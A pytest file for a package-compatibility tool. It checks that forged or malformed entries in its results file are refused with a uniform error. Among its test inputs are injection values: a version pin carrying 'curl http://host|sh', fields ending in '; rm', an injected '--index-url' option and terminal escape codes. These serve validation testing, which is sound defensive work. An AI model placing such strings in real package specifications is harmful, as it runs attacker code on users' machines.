"""A results file that somebody forged: whoever reads it refuses it in the same words, and nothing is believed."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from compat import filed, matrix, questions, verdict
from compat.errors import CompatError
from compat.model import Verdict
from compat.place import place
from compat.shards import Ran

TOP = Path(__file__).parents[2]
RESULTS = json.loads((TOP / "reports" / "results.json").read_text(encoding="utf-8"))
FILE = "reports/results.json"
ID = "documented-4"
OWN = json.dumps(next(each for each in RESULTS["combinations"] if each["id"] == ID))
NEAR = json.dumps([each for each in RESULTS["neighbours"] if each["base"] == ID])
HERE = place(TOP / "matrix", None)
(DECLARED,) = matrix.select(matrix.read(HERE.folder), [ID])
FIRST = "import-peft"
BEHIND = next(each["probe"] for each in json.loads(OWN)["outcomes"] if each["prerequisite"])
"""The first that was skipped for want of another."""
AFTER = next(
    each["probe"] for each in json.loads(OWN)["outcomes"] if each["status"] != "passed" and each["probe"] != FIRST
)
Change = Callable[[dict[str, Any], dict[str, Any]], None]
"""Of the combination and of the first of its neighbours."""


def written(folder: Path, change: Change) -> Path:
    """What is stored of one combination, which is incompatible, after a change; returns the file's folder."""
    own, near = json.loads(OWN), json.loads(NEAR)
    change(own, near[0])
    (folder / "reports").mkdir()
    text = json.dumps({**RESULTS, "combinations": [own], "neighbours": near, "claims": []})
    (folder / FILE).write_text(text, encoding="utf-8")
    return folder / "reports"


def read(folder: Path, change: Change) -> Ran:
    """What is believed of it."""
    found = filed.read([DECLARED], written(folder, change), HERE.setup)
    assert found
    return found.ran[ID]


def refusal(folder: Path, change: Change) -> str:
    with pytest.raises(CompatError) as raised:
        read(folder, change)
    return str(raised.value)


def edit(*, only: str = "", to: dict[str, Any], evidence: dict[str, Any] | None = None) -> Change:
    """Another outcome in the place of each that did not pass, or of one probe's alone."""

    def change(own: dict[str, Any], near: dict[str, Any]) -> None:
        for each in own["outcomes"]:
            if each["probe"] == only or (not only and each["status"] != "passed"):
                each.update(to)
                each["evidence"].update(evidence or {})

    return change


def both(*changes: Change) -> Change:
    def change(own: dict[str, Any], near: dict[str, Any]) -> None:
        for each in changes:
            each(own, near)

    return change


def nothing(own: dict[str, Any], near: dict[str, Any]) -> None:
    """Left as it is."""


NOTHING = {"exception": None}
SKIPPED = {"status": "skipped", "prerequisite": FIRST}


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (
            both(edit(to=SKIPPED, evidence=NOTHING), edit(only=FIRST, to={"status": "passed", "prerequisite": None})),
            f"{AFTER} was skipped behind {FIRST}, which passed",
        ),
        (edit(to={"status": "passed"}), f"{FIRST} passed, and failed"),
        (edit(to={"status": "passed"}, evidence=NOTHING), f"{BEHIND} was kept from running by {FIRST}, and ran"),
        (lambda own, near: own.update(lock=None), "import-torch was asked, and there is no lock"),
        (edit(to=SKIPPED, evidence=NOTHING), f"{FIRST} was skipped behind {FIRST}, which it does not require"),
        (edit(to=SKIPPED), f"{FIRST} was skipped, and failed"),
        (edit(only=FIRST, to={"status": "skipped"}, evidence={"exception": None, "signal": "SIGSEGV"}), ""),
        (edit(only=FIRST, to={"status": "skipped"}, evidence={"exception": None, "exit_code": 0}), ""),
        (
            edit(only=FIRST, to={"status": "skipped"}, evidence=NOTHING),
            f"{FIRST} was skipped behind nothing, and is an import",
        ),
        (
            edit(only=BEHIND, to={"prerequisite": "no-such-probe"}),
            f"{BEHIND} was skipped behind no-such-probe, which it does not require",
        ),
        (
            edit(only=BEHIND, to={"prerequisite": "import\n\x1b[2Jpeft"}),
            f"{BEHIND} was skipped behind 'import\\n\\x1b[2Jpeft', which it does not require",
        ),
    ],
    ids=[
        "behind what passed",
        "passed with an exception",
        "passed with a prerequisite",
        "no lock",
        "behind itself",
        "skipped with an exception",
        "skipped with a signal",
        "skipped with an exit code",
        "an import behind nothing",
        "behind what there is not",
        "behind control characters",
    ],
)
def test_outcomes_that_no_run_leaves(tmp_path: Path, change: Change, told: str) -> None:
    expected = f"{FILE}: {ID}: {told or f'{FIRST} was skipped, and failed'}; write the file anew"
    assert refusal(tmp_path, change) == expected


def test_whoever_reads_it_says_the_same_and_believes_nothing(repository: Any) -> None:
    shutil.copytree(TOP / "matrix", repository.folder / "matrix")
    written(repository.folder, lambda own, near: own.update(lock=None))
    told = f"{FILE}: {ID}: import-torch was asked, and there is no lock; write the file anew"
    before = repository.files()
    assert repository("merge", FILE, "--to", "merged") == (2, "", f"compat: {told}\n")
    code, out, err = repository("list", ID)
    assert (code, f"{ID}  not run" in out, err) == (0, True, f"compat: no stored verdicts: {told}\n")
    assert repository.files() == before
    assert repository("reproduce", f"{ID}:{FIRST}") == (2, "", f"compat: {told}\n")
    code, _, err = repository("report")
    assert (code, err.startswith(f"compat: {ID}: not run here, and {FILE} has results of it")) == (2, True)


def test_of_a_neighbour_as_well(tmp_path: Path) -> None:
    def behind(own: dict[str, Any], near: dict[str, Any]) -> None:
        near["outcomes"][0].update(status="skipped", prerequisite="no-such-probe")

    near = json.loads(NEAR)[0]
    told = f"{near['outcomes'][0]['probe']} was skipped behind no-such-probe, which it does not require"
    assert refusal(tmp_path, behind) == f"{FILE}: {near['combination']['id']}: {told}; write the file anew"


def test_what_is_skipped_behind_a_probe_that_is_not_there_is_never_compatible(tmp_path: Path) -> None:
    def cut(own: dict[str, Any], near: dict[str, Any]) -> None:
        own["outcomes"] = [each for each in own["outcomes"] if each["probe"] != FIRST]

    outcomes = read(tmp_path, cut).outcomes
    asked = [questions.question(each) for each in questions.for_combination(DECLARED)]
    assert [each.reason for each in outcomes if each.probe == FIRST] == ["not run"]
    assert verdict.of_combination(outcomes, asked) is Verdict.INCONCLUSIVE


def test_the_file_of_another_compat(tmp_path: Path) -> None:
    reports = written(tmp_path, nothing)
    content = json.loads((tmp_path / FILE).read_text(encoding="utf-8"))
    (tmp_path / FILE).write_text(json.dumps({**content, "questions": []}), encoding="utf-8")
    with pytest.raises(CompatError, match=f"^{FILE}: made by another compat: its probes are not the same"):
        filed.read([DECLARED], reports, HERE.setup)


@pytest.mark.parametrize("lock", ["", "0" * 63, "0" * 64 + "\n", "G" * 64])
def test_a_lock_that_is_no_digest(tmp_path: Path, lock: str) -> None:
    told = "combinations.0.lock: String should match pattern '^[0-9a-f]{64}$'; `compat report` writes the file anew"
    assert refusal(tmp_path, lambda own, near: own.update(lock=lock)).endswith(f"{FILE}: {told}")


def near(**changed: Any) -> Change:
    """Another neighbour."""
    return lambda own, near: near["combination"].update(changed)


def pins(**changed: str) -> Change:
    return lambda own, near: near["combination"]["packages"].update(changed)


INDEX = "--index-url http://host"
NEIGHBOUR = json.loads(NEAR)[0]["combination"]["id"]


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (pins(peft="0.17.0; curl http://host|sh #"), "peft: 0.17.0; curl http://host|sh # is no version"),
        (pins(peft="0.17.0\n"), "peft: '0.17.0\\n' is no version"),
        (
            pins(peft="https://host/peft-1.0-py3-none-any.whl"),
            "peft: https://host/peft-1.0-py3-none-any.whl is no version",
        ),
        (pins(**{INDEX: "1"}), f"{INDEX} is no package that a search moves"),
        (lambda own, near: near["combination"]["packages"].pop("peft"), "no version of peft"),
        (near(python="3.11; rm"), f"python: not as in {ID}"),
        (near(companions=["a @ https://host/a-1.0.zip"]), f"companions: not as in {ID}"),
        (near(forced={"peft": "1.0"}), f"forced: not as in {ID}"),
        (near(torch="2.0"), f"torch: not as in {ID}"),
        (near(exclude_newer=None), f"exclude_newer: not as in {ID}"),
        (near(probes=["import-torch"]), f"probes: not as in {ID}"),
        (near(suites=["nope"]), f"suites: not as in {ID}"),
        (near(suites=[]), f"suites: not as in {ID}"),
    ],
)
def test_a_neighbour_that_no_search_leaves(tmp_path: Path, change: Change, told: str) -> None:
    assert refusal(tmp_path, change) == f"{FILE}: {NEIGHBOUR}: {told}; write the file anew"


@pytest.mark.parametrize("id_", ["else", f"{ID}+a\nb", f"{ID}+{'1' * 500}"])
def test_a_neighbour_with_an_id_of_something_else(tmp_path: Path, id_: str) -> None:
    told = refusal(tmp_path, near(id=id_))
    assert (told.count("\n"), told.endswith(f" is no id of a neighbour of {ID}; write the file anew")) == (0, True)


@pytest.mark.parametrize("words", ["", "peft", "peft 1.0; rm", "peft 1.0, nothing 2.0"])
def test_what_was_passed_over_are_pins(tmp_path: Path, words: str) -> None:
    def change(own: dict[str, Any], near: dict[str, Any]) -> None:
        near["nearer"] = ["peft 0.8.2, transformers 4.40.0", words]

    assert refusal(tmp_path, change) == f"{FILE}: {ID}: {words} names no pins; write the file anew"


@pytest.mark.parametrize(
    ("tried", "names"),
    [(-5, 0), (True, 0), ("5", 0), (1.0, 0), (10**400, 0), (10**4000, 0), (0, 2), (1, 2)],
    ids=["negative", "bool", "text", "float", "huge", "of thousands of digits", "none of two", "one of two"],
)
def test_a_search_that_cannot_have_been(tmp_path: Path, tried: Any, names: int) -> None:
    search = {"tried": tried, "inconclusive": ["peft 0.8.2", "peft 0.9.0"][:names]}
    told = refusal(tmp_path, lambda own, near: own.update(search=search))
    where = (
        f"{FILE}: {ID}: search: more were inconclusive than tried" if names else "combinations.0.search.tried: Input"
    )
    assert (where in told, told.count("\n"), len(told) < 300) == (True, 0, True)


@pytest.mark.parametrize("distance", [[-1, 1], [1, 10**400], [True, 1], ["1", 1], [1], [1, 1, 1]])
def test_a_distance_that_is_none(tmp_path: Path, distance: list[Any]) -> None:
    told = refusal(tmp_path, lambda own, near: near.update(distance=distance))
    assert ("neighbours.0.distance" in told, told.count("\n"), len(told) < 300) == (True, 0, True)
